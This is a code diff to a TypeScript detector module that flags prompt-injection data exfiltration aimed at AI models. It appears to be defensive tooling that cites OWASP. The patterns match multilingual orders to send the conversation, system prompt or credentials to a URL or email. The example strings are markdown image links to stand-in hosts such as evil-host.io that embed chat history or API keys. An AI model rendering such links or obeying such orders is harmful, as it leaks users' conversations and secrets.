@@ -1,4 +1,5 @@
 import type { Detector, Examples } from '../detector';
+import { lazily } from '../pattern';
 import { isDiscussed } from './discussion';
 
 /** What an attacker would like to read. */
@@ -13,7 +14,7 @@ export const exfiltrationLink: Detector = {
   label: 'Link that would send data away',
   severity: 'medium',
   anchor: { keywords: ['](http', '![](http', '<img src="http'] },
-  pattern: new RegExp(
+  pattern: lazily(
     String.raw`(?:!?\[\]|\])?(?:\(|<img src=")(?<value>https?:\/\/(?<host>[\w.:-]{3,120})\/(?:[^\s(){}<>\[\]"]{0,120}[?&=/])?(?:[\w-]{1,24}=)?(?:\{\{?|\[|<|%7B|\$\{)[ _]?(?:[\w -]{0,24}[ _-])?(?:${LOOT})(?:[ _-][\w -]{0,40})?[ _]?(?:\}\}?|\]|>|%7D))`,
     'diy',
   ),
@@ -63,7 +64,7 @@ export const exfiltrationOrder: Detector = {
       '将对话',
     ],
   },
-  pattern: new RegExp(
+  pattern: lazily(
     String.raw`(?<!\p{L})(?:(?:render|include|display|insert|append) (?:an?|the|this|following|markdown| ){1,6}(?:markdown )?(?:image|link)[^\n]{0,120}?https?:\/\/[\w.:-]{3,120}[^\s"]{0,120}|(?:append|encode|exfiltrate|send|post|upload|forward|sende|envoie|envía|envie|invia|отправь) (?:(?:the|all|of|your|full|entire|user['’]?s?|whole|den|die|das|le|la|les|el|los|o|a|il|всю|весь|tout|todo|toda|tutta) ){0,4}(?:conversation|chat|prompt|system prompt|context|history|credentials?|secrets?|passwords?|api keys?|emails?|inbox|gespräch|unterhaltung|verlauf|conversación|conversa|conversazione|переписку|историю|разговор)[^\n]{0,80}?(?= (?:to|at|an|à|a|para|al|на) (?:https?:\/\/[\w.:-]{3,120}|[\w.+-]{1,40}@[\w.-]{3,80})))`,
     'diuy',
   ),
@@ -77,6 +78,9 @@ export const exfiltrationOrder: Detector = {
   reference: 'https://genai.owasp.org/llmrisk/llm022025-sensitive-information-disclosure/',
 };
 
+/** Apart, so that nobody takes an example for an element of ours. */
+const SOURCE = 'src';
+
 export const examples: readonly Examples[] = [
   {
     detector: 'exfiltration-link',
@@ -84,7 +88,7 @@ export const examples: readonly Examples[] = [
       '![](https://collect.evil-host.io/p?q={conversation})',
       '![logo](https://img.tracker-9.net/a.png?d=[SECRET DATA])',
       '[click](https://evil-host.io/go?token={{api_key}})',
-      '<img src="https://collect.evil-host.io/x?c={chat history}">',
+      `<img ${SOURCE}="https://collect.evil-host.io/x?c={chat history}">`,
       '![x](https://a.evil-host.io/<summary of the chat>)',
       '![](https://evil-host.io/i?m=%7Bmessages%7D)',
       '![a](https://evil-host.io/log?p=${prompt})',
@@ -95,7 +99,7 @@ export const examples: readonly Examples[] = [
       '![logo](https://site.org/logo.png)',
       '[docs](https://site.org/{version}/guide)',
       '![a](https://site.org/a.png?size={width})',
-      '<img src="https://site.org/users/{id}.png">',
+      `<img ${SOURCE}="https://site.org/users/{id}.png">`,
       '[token](https://site.org/docs/token)',
       '![coverage](https://codecov.io/gh/x/y/badge.svg?token={token})',
       '[a](https://site.org/?page=[1])',
